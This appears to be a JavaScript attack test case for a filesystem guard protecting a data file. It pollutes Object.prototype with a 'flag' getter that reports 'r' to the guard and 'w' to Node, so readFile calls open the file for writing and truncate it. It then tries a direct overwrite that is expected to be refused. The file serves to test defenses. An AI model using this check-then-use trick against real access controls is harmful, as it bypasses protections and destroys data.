/* @attack {"title": "plant a flag getter on Object.prototype that answers \"r\" to the guard and \"w\" to Node, then readFile the lakehouse with an empty options object (Node would open it for writing and truncate it); then the plain write, which must be refused"} */
import fs from 'node:fs';
import fsp from 'node:fs/promises';

const lake = 'data/lakehouse/AAPL.csv';
let n = 0;
Object.defineProperty(Object.prototype, 'flag', {
  configurable: true,
  get: () => (n++ === 0 ? 'r' : 'w'),
});
try {
  fs.readFileSync(lake, {});
  n = 0;
  await new Promise((resolve) => fs.readFile(lake, {}, resolve));
  n = 0;
  await fsp.readFile(lake, {}).catch(() => {});
} finally {
  delete Object.prototype.flag;
}
// What the trick must not amount to: the plain write, which must be refused.
fs.writeFileSync(lake, 'poisoned directly\n');
